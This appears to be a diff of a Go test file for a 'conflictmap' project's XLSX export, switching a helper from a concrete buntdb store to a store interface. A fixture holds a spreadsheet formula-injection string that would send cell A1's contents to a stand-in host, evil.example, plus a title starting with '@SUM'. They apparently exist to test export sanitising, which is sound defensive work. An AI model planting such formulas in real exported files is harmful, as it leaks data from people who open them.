@@ -16,14 +16,13 @@ import (
 
 	"conflictmap/layers"
 	"conflictmap/layers/store"
-	"conflictmap/layers/store/buntdb"
 )
 
 // hostileQuote is a source sentence that a spreadsheet would run as a formula.
 const hostileQuote = `=HYPERLINK("http://evil.example/?leak="&A1,"Shusha")`
 
 // xlsxStore is the seeded store plus an article whose quote and title start with = and @.
-func xlsxStore(t *testing.T) (*buntdb.Store, http.Handler) {
+func xlsxStore(t *testing.T) (store.Store, http.Handler) {
 	t.Helper()
 	st, h := seeded(t)
 	res := &layers.Result{Article: layers.Article{ID: "hostile1", Title: "@SUM(1+1) report", Published: "2021-05-02",
